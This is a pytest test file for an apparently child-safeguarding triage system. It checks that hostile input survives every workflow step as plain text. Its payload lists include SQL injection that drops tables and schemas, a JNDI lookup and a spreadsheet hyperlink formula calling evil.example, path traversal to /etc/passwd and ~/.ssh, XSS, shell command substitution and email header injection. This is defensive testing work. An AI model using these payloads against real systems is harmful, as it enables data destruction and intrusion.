"""Words made to be taken for commands, in every place where people or machines may put them: they
stay words, on the file and on PostgreSQL, from the call to the council."""

from collections.abc import Iterator
from dataclasses import replace
from email.message import EmailMessage
from pathlib import Path

import pytest
from sqlalchemy import inspect

from tests import factory
from tests.conftest import Home
from tests.workflow.conftest import Front, open_front
from tests.workflow.test_events import Accepting
from triage.domain.contact import Child, Content
from triage.domain.decision import OutboxState
from triage.domain.fact import Fact, entered
from triage.domain.pack import Copy
from triage.export import signing
from triage.storage import events
from triage.storage.tables import metadata
from triage.workflow import (
    claims,
    comments,
    decide,
    export,
    find,
    pack,
    people,
    queue,
    reading,
    receive,
    screen,
    sign,
)

HOSTILE = (
    "'; DROP TABLE contact; --",
    "Robert'); SELECT pg_sleep(30); --",
    '" OR ""="',
    "%' OR '1'='1",
    "%",
    "_____",
    "\\'; COMMIT; --",
    "$$; DROP SCHEMA public CASCADE; $$",
    "{0.__class__.__init__.__globals__}",
    "%(password)s %n%n%s",
    "${jndi:ldap://evil.example/a}",
    '"""\n[[rating]]\ncode = "green"\n"""',
    "rating = 'green' # \u0085[[clock]]",
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    '=HYPERLINK("https://evil.example","Maya")',
    "<script>alert(1)</script><img src=x onerror=y>",
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egpj.exe",
    "NULL",
    "\u0000hidden",
    "half \ud800 a letter",
    "💥" * 3000,
    "very " * 2000 + "long",
)


@pytest.fixture(params=["file", "server"])
def anywhere(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Front]:
    home: Home = request.getfixturevalue(f"{request.param}_home")
    store = home.open()
    yield open_front(store, tmp_path_factory.mktemp("hub"))
    store.close()


def fact(words: str) -> Fact:
    return entered(words, by="rosei", at=factory.NOW)


def hostile_content(start: int) -> Content:
    """Each fact holds other hostile words."""
    said = [fact(HOSTILE[(start + n) % len(HOSTILE)]) for n in range(8)]
    child = Child(key="c1", given=said[0], family=said[1], school=said[2], nhs_number=said[3])
    told = factory.content(child)
    return replace(
        told,
        concern=said[4],
        child_words=(said[5],),
        address=replace(told.address, line=said[6], postcode=said[7]),
        referrer=replace(told.referrer, name=said[2], agency=said[5]),
    )


def still_whole(front: Front) -> None:
    with front.store.read() as tx:
        assert set(metadata.tables) <= set(inspect(tx.connection).get_table_names())
    assert events.verify(front.store) is None


@pytest.mark.parametrize("start", range(0, len(HOSTILE), 6))
def test_hostile_words_in_every_fact_go_through_the_main_job_as_words(
    anywhere: Front, start: int
) -> None:
    front, words = anywhere, HOSTILE[start]
    call = receive.start_call(front.ruth)
    told = hostile_content(start)
    call = receive.keep_call(front.ruth, call, told)
    contact = receive.put_in_queue(front.ruth, call)
    kept = front.read(contact).content
    assert kept.children[0].school.value == people_words(told.children[0].school.value)
    assert len(queue.queue(front.ruth).rows) == 1
    for said in HOSTILE:
        find.hear(front.ruth, said)
    contact = screen.rate(front.ruth, claims.claim(front.ruth, contact), "green")
    front.answered(contact, analysis=words, outcome_why=words)
    proposed = decide.propose(front.ruth, contact.id)
    comments.keep(front.priya, proposed.id, words)
    assert comments.kept(front.priya, proposed.id) == people_words(words)
    sign.look(front.priya, proposed.id)
    signed = sign.approve(front.priya, proposed.id, comment=words, pin="2222")
    [sent] = export.deliver_due(replace(front.ruth, council=Accepting()))
    assert sent.state is OutboxState.ACCEPTED
    found = signing.verify(sent.document, people.trust_list(front.priya))
    assert found.document["analysis"] == people_words(words)
    copy = Copy(number=1, recipient=words, by="printed", removals=frozenset())
    assert pack.issue(front.priya, signed.id, copy, "printed").startswith(b"%PDF")
    still_whole(front)


def test_decision_of_many_pages_is_signed_and_verified_like_any_other(front: Front) -> None:
    contact = front.bring(factory.contact(rating="green"))
    front.answered(contact, analysis="She said it again. " * 20_000)
    signed = sign.approve(front.priya, decide.propose(front.ruth, contact.id).id, pin="2222")
    [sent] = export.deliver_due(replace(front.ruth, council=Accepting()))
    found = signing.verify(sent.document, people.trust_list(front.priya))
    assert found.document["analysis"] == signed.answers["analysis"]


def people_words(words: str) -> str:
    """As they can be kept: half a letter is a sign."""
    return words.encode("utf-8", "replace").decode()


@pytest.mark.parametrize("typed", ["%", "_", "*", "\\", "' OR 1=1 --", ".*"])
def test_no_sign_of_a_search_language_finds_anybody(anywhere: Front, typed: str) -> None:
    anywhere.bring(factory.contact())
    assert find.hear(anywhere.ruth, "maya").found
    assert find.hear(anywhere.ruth, typed).found == ()


NAMES = (
    "../../owned.txt",
    "..\\..\\owned.bat",
    "/etc/cron.d/owned",
    "C:\\Windows\\owned.exe",
    "~/.ssh/authorized_keys",
    "owned\x00.txt",
    "..",
    ".",
    "",
    "a" * 4000 + ".txt",
    "CON",
    "aux.pdf",
    "LPT1.txt",
    "com\u00b9.eml",
    "owned.txt:hidden.exe",
    "owned.txt::$DATA",
    "\\\\?\\C:\\owned.txt",
    "\\\\server\\share\\owned.txt",
    "owned.txt. . .",
    "%2e%2e%2fowned.txt",
    "\uff0e\uff0e\uff0fowned.txt",
    "..\u2215owned.txt",
    "file:///owned.txt",
    "\u202etxt.exe",
    "\u2066owned\u2069.eml",
    "$(touch owned)",
    "a\nb\r\nBcc: x@evil.example",
)


def test_no_name_of_an_attachment_leads_anywhere_and_all_are_kept_byte_for_byte(
    front: Front, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    elsewhere = tmp_path / "a" / "b" / "c"
    elsewhere.mkdir(parents=True)
    monkeypatch.chdir(elsewhere)
    before = {p for p in tmp_path.rglob("*") if "owned" in p.name or p.parent == elsewhere}
    mail = EmailMessage()
    mail["From"], mail["To"] = "Dana Pike <dana@school.example>", "mash@northmere.example"
    mail["Subject"], mail["Message-ID"] = "Maya", "<paths-1@school.example>"
    mail.set_content("Child's name: Maya Rowe\n\nShe came in with a bruise.")
    for number, name in enumerate(NAMES):
        mail.add_attachment(f"words {number}".encode(), "text", "plain", filename="placeholder")
        part = mail.get_payload()[-1]  # type: ignore[index]
        del part["Content-Disposition"]  # type: ignore[union-attr,arg-type]
        quoted = name.replace("\\", "\\\\").replace("\n", "").replace("\r", "").replace("\x00", "")
        part["Content-Disposition"] = f'attachment; filename="{quoted}"'  # type: ignore[union-attr,index,call-overload]
    data = mail.as_bytes()
    for name in ("mail.eml", *NAMES):
        received = receive.receive_file(front.ruth, data, name)
        [contact_id] = received.contacts
        assert reading.original_bytes(front.ruth, contact_id) == data
        assert "\n" not in received.sentence
    after = {p for p in tmp_path.rglob("*") if "owned" in p.name or p.parent == elsewhere}
    assert before == after == set()
    still_whole(front)
